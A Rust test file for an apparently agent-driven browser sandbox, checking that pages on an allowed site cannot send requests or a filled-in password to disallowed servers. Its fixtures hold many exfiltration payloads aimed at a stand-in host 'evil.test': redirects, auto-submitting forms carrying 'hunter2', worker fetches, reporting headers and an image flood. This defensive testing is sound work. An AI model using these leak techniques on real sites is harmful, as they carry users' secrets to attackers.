//! What an allowed page can send to a server that is not.

use std::{
    collections::{BTreeMap, BTreeSet},
    sync::Arc,
};

use lamassu::{Pack, Secret, Vault, browser::Options};

use super::{
    Names, Ran, call, limits, open,
    server::{Answer, Asked, Got, Server, answer, page},
    sink, tour,
};

/// The host of the pages. Under this name a page may have service workers.
const HOST: &str = "shop.localhost";

/// A site that is allowed, and two servers that are not.
struct Scene {
    site: Server,
    evil: Server,
    near: Server,
    names: Arc<Names>,
}

impl Scene {
    async fn new() -> Self {
        let (evil, near) = (sink([127, 0, 0, 1]).await, sink([127, 0, 0, 66]).await);
        let port = evil.address.port();
        let (bad, stun) = (evil.named("evil.test"), evil.address.to_string());
        let fill = move |text: &str| {
            text.replace("EVIL", &bad)
                .replace("SECURE", &bad.replace("http", "https"))
                .replace("STUN", &stun)
                .replace("PORT", &port.to_string())
        };
        let direct = format!("http://{}", near.address);
        let pages: Answer = Arc::new(move |asked| pages(asked, &|text| fill(text).replace("NEAR", &direct)));
        let names = Names::new([(HOST, &["127.0.0.1"]), ("evil.test", &["127.0.0.1"])]);
        Self { site: Server::start([127, 0, 0, 1], None, pages).await, evil, near, names }
    }

    fn url(&self, path: &str) -> String {
        format!("{}{path}", self.site.named(HOST))
    }

    /// Opens every page under the pack `web-forms`; `sites` are named beside the one with the pages.
    async fn visit(&self, sites: &[String]) -> Ran {
        let mut calls = vec![
            open(self.url("/leaks")),
            call("fill").with("target", "Password").with("secret", "pin"),
            call("scroll").with("to", "end"),
            call("wait").with("text", "never there").with("seconds", 2),
        ];
        assert_eq!(calls.len(), FIRST_GOING);
        calls.extend(GOING.map(|case| open(self.url(&format!("/go/{case}")))));
        for case in PRESSED {
            calls.push(open(self.url(&format!("/start?{case}"))));
            calls.push(call("click").with("target", format!("button \"{case}\"")));
        }
        calls.push(open(self.url("/said")));
        calls.push(call("wait").with("text", "never there").with("seconds", 1));
        calls.push(open(self.url("/flood")));
        let private = ["evil.test".to_owned(), HOST.to_owned(), self.near.address.ip().to_string()];
        let pack = Pack::ready("web-forms")
            .with("sites", [self.site.named(HOST)])
            .with("sites", sites.iter().cloned())
            .with("private", private);
        let vault = Vault::default().with("pin", Secret::new("hunter2!").at(self.site.named(HOST)));
        let options = Options { resolver: self.names.clone(), limits: limits(), ..Options::default() };
        tour(pack, options, vault, calls).await
    }

    /// The requests of both other servers, by case.
    fn cases(&self) -> BTreeMap<String, usize> {
        let mut cases = self.evil.got().cases();
        cases.extend(self.near.got().cases());
        cases
    }
}

/// The place of the first of `GOING` among the calls.
const FIRST_GOING: usize = 4;

/// Buttons that open windows, which takes a press.
const PRESSED: [&str; 4] = ["popup", "popup-late", "blank", "written"];

/// Pages that leave their site, each in another way.
const GOING: [&str; 15] = [
    "location",
    "location-late",
    "location-replace",
    "meta-refresh",
    "refresh-header",
    "redirect-302",
    "redirect-307",
    "redirect-chain",
    "navigate-get",
    "navigate-post",
    "navigate-top",
    "navigate-link",
    "navigate-blob",
    "navigate-document",
    "navigate-api",
];

fn pages(asked: &Asked, fill: &dyn Fn(&str) -> String) -> Option<Vec<u8>> {
    let script = |text: &str| answer("200 OK", "Content-Type: text/javascript\r\n", &fill(text));
    let sent = |status: &str, place: &str| answer(status, &fill(&format!("Location: {place}\r\n")), "");
    match asked.target.split('?').next().unwrap_or_default() {
        "/leaks" => {
            let headers = fill(
                "Content-Type: text/html; charset=utf-8\r\n\
                 Link: <EVIL/header-link>; rel=preload; as=image\r\n\
                 Content-Security-Policy-Report-Only: img-src 'self'; report-uri EVIL/header-csp-report; report-to evil\r\n\
                 Reporting-Endpoints: evil=\"EVIL/header-reporting\"\r\n\
                 Report-To: {\"group\":\"evil\",\"max_age\":9999,\"endpoints\":[{\"url\":\"EVIL/header-report-to\"}]}\r\n\
                 NEL: {\"report_to\":\"evil\",\"max_age\":9999,\"success_fraction\":1}\r\n",
            );
            answer("200 OK", &headers, &fill(include_str!("pages/leaks.html")))
        }
        "/start" => page(&fill(include_str!("pages/start.html"))),
        "/flood" => page(&fill("<script>for (let n = 0; n < 1000; n++) new Image().src = 'EVIL/flood?' + n</script>")),
        "/worker.js" => {
            script("fetch('EVIL/worker-fetch',{mode:'no-cors'});try{importScripts('EVIL/worker-import.js')}catch{}")
        }
        "/shared.js" => {
            script("fetch('EVIL/shared-fetch',{mode:'no-cors'});try{importScripts('EVIL/shared-import.js')}catch{}")
        }
        "/service.js" => script("fetch('EVIL/service-fetch',{mode:'no-cors'});importScripts('EVIL/service-import.js')"),
        "/to-evil" => sent("302 Found", "EVIL/fetch-redirect"),
        "/to-evil-with-body" => sent("307 Temporary Redirect", "EVIL/fetch-redirect-body"),
        "/to-307" => sent("307 Temporary Redirect", "EVIL/redirect-307.html"),
        "/hop" => sent("303 See Other", "/hop2"),
        "/hop2" => sent("308 Permanent Redirect", "EVIL/redirect-chain.html"),
        target => match target.strip_prefix("/go/") {
            Some(case) => leaving(case, fill),
            None => page("<title>said</title><p>said"),
        },
    }
}

/// A page that leaves its site in the way that is called `case`.
fn leaving(case: &str, fill: &dyn Fn(&str) -> String) -> Option<Vec<u8>> {
    let go = |text: &str| page(&fill(&format!("<!doctype html><title>Go</title><p>going</p>{text}")));
    let run = |text: &str| go(&format!("<script>{text}</script>"));
    let sent = |status: &str, place: &str| answer(status, &fill(&format!("Location: {place}\r\n")), "");
    match case {
        "location" => run("location.href='EVIL/location.html?d=hunter2'"),
        "location-late" => run("setTimeout(()=>{location.href='EVIL/location-late.html'},200)"),
        "location-replace" => run("location.replace('EVIL/location-replace.html')"),
        "meta-refresh" => go("<meta http-equiv=refresh content='0;url=EVIL/meta-refresh.html'>"),
        "refresh-header" => answer(
            "200 OK",
            &fill("Content-Type: text/html\r\nRefresh: 0;url=EVIL/refresh-header.html\r\n"),
            "<p>going",
        ),
        "redirect-302" => sent("302 Found", "EVIL/redirect-302.html"),
        "redirect-307" => {
            go("<form id=f action=/to-307 method=post><input name=d value=hunter2></form><script>f.submit()</script>")
        }
        "redirect-chain" => sent("301 Moved Permanently", "/hop"),
        "navigate-get" => go(
            "<form id=f action=EVIL/navigate-get.html><input name=d value=hunter2></form><script>f.submit()</script>",
        ),
        "navigate-post" => go(
            "<form id=f action=EVIL/navigate-post.html method=post><input name=d value=hunter2></form><script>f.submit()</script>",
        ),
        "navigate-top" => go("<iframe srcdoc=\"<script>top.location='EVIL/navigate-top.html'</script>\"></iframe>"),
        "navigate-link" => {
            go("<a id=a href=EVIL/navigate-link.html referrerpolicy=unsafe-url>x</a><script>a.click()</script>")
        }
        "navigate-blob" => {
            run("location=URL.createObjectURL(new Blob(['<img src=EVIL/navigate-blob>'],{type:'text/html'}))")
        }
        "navigate-document" => {
            run("document.open();document.write('<img src=EVIL/navigate-document>');document.close()")
        }
        "navigate-api" => run("navigation.navigate('EVIL/navigate-api.html')"),
        _ => None,
    }
}

/// What arrives if the other servers are allowed. The other cases stay away for reasons of the
/// browser's own, or by chance, and are tried all the same.
const ARRIVES: [&str; 90] = [
    "a-download",
    "audio",
    "beacon",
    "blank",
    "body-background",
    "css-background",
    "css-border",
    "css-content",
    "css-cursor",
    "css-font",
    "css-image-set",
    "css-import",
    "css-list",
    "css-mask",
    "css-shape",
    "embed",
    "event-source",
    "fetch-cors",
    "fetch-get",
    "fetch-keepalive",
    "fetch-post",
    "fetch-redirect",
    "fetch-redirect-body",
    "form-formaction",
    "form-get",
    "form-post",
    "header-link",
    "iframe",
    "iframe-data",
    "iframe-sandbox",
    "iframe-srcdoc",
    "img",
    "img-address",
    "img-srcset",
    "import",
    "input-image",
    "key-all",
    "key-first",
    "link-manifest",
    "link-modulepreload",
    "link-prefetch",
    "link-preload",
    "link-stylesheet",
    "location",
    "location-late",
    "location-replace",
    "meta-refresh",
    "navigate-api",
    "navigate-blob",
    "navigate-document",
    "navigate-get",
    "navigate-link",
    "navigate-post",
    "navigate-top",
    "new-audio",
    "new-font",
    "new-image",
    "object",
    "picture-source",
    "popup",
    "popup-late",
    "redirect-302",
    "redirect-307",
    "redirect-chain",
    "refresh-header",
    "script",
    "script-module",
    "service-fetch",
    "service-import",
    "shared-fetch",
    "shared-import",
    "style-attribute",
    "svg-feimage",
    "svg-image",
    "table-background",
    "unload-beacon",
    "unload-keepalive",
    "video",
    "video-poster",
    "video-source",
    "video-track",
    "websocket",
    "worker-blob",
    "worker-fetch",
    "worker-import",
    "worklet-audio",
    "worklet-paint",
    "written",
    "xhr",
    "xhr-sync",
];

/// How many requests there were for each case, while the other servers were closed and open.
fn table(closed: &Scene, open: &Scene) -> String {
    let (none, some) = (closed.cases(), open.cases());
    let mut table = String::from("case                      closed   open\n");
    let names: BTreeSet<_> = none.keys().chain(some.keys()).collect();
    for name in names {
        let count = |cases: &BTreeMap<String, usize>| cases.get(name).copied().unwrap_or_default();
        table.push_str(&format!("{name:<24} {:>7} {:>6}\n", count(&none), count(&some)));
    }
    let sums = |scene: &Scene| {
        let (evil, near) = (scene.evil.got(), scene.near.got());
        [evil.connections + near.connections, evil.bytes + near.bytes, evil.datagrams + near.datagrams]
    };
    for (name, (none, some)) in
        ["connections", "bytes", "datagrams"].iter().zip(sums(closed).into_iter().zip(sums(open)))
    {
        table.push_str(&format!("{name:<24} {none:>7} {some:>6}\n"));
    }
    table
}

#[tokio::test(flavor = "multi_thread")]
async fn an_allowed_page_reaches_another_server_only_if_that_is_allowed_too() {
    let (closed, open) = (Scene::new().await, Scene::new().await);
    let told = closed.visit(&[]).await.told;
    let evil = open.evil.named("evil.test");
    open.visit(&[evil.replace("http", "https"), evil, format!("http://{}", open.near.address)]).await;
    println!("{}", table(&closed, &open));
    let nothing = (Got::default(), Got::default(), vec![HOST.to_owned()]);
    assert_eq!((closed.evil.got(), closed.near.got(), closed.names.asked()), nothing);
    let arrived = open.cases();
    let missing: Vec<_> = ARRIVES.into_iter().filter(|case| !arrived.contains_key(*case)).collect();
    assert_eq!(missing, Vec::<&str>::new());
    // The planner is told of each attempt to leave, and not of a thousand pictures one by one.
    let silent: Vec<_> =
        told[FIRST_GOING..].iter().take(GOING.len()).filter(|told| !told.contains("is refused by")).collect();
    assert_eq!(silent, Vec::<&String>::new());
    let flood = told.last().unwrap();
    assert!(flood.contains("more refusals") && flood.len() < 3000, "{flood}");
}
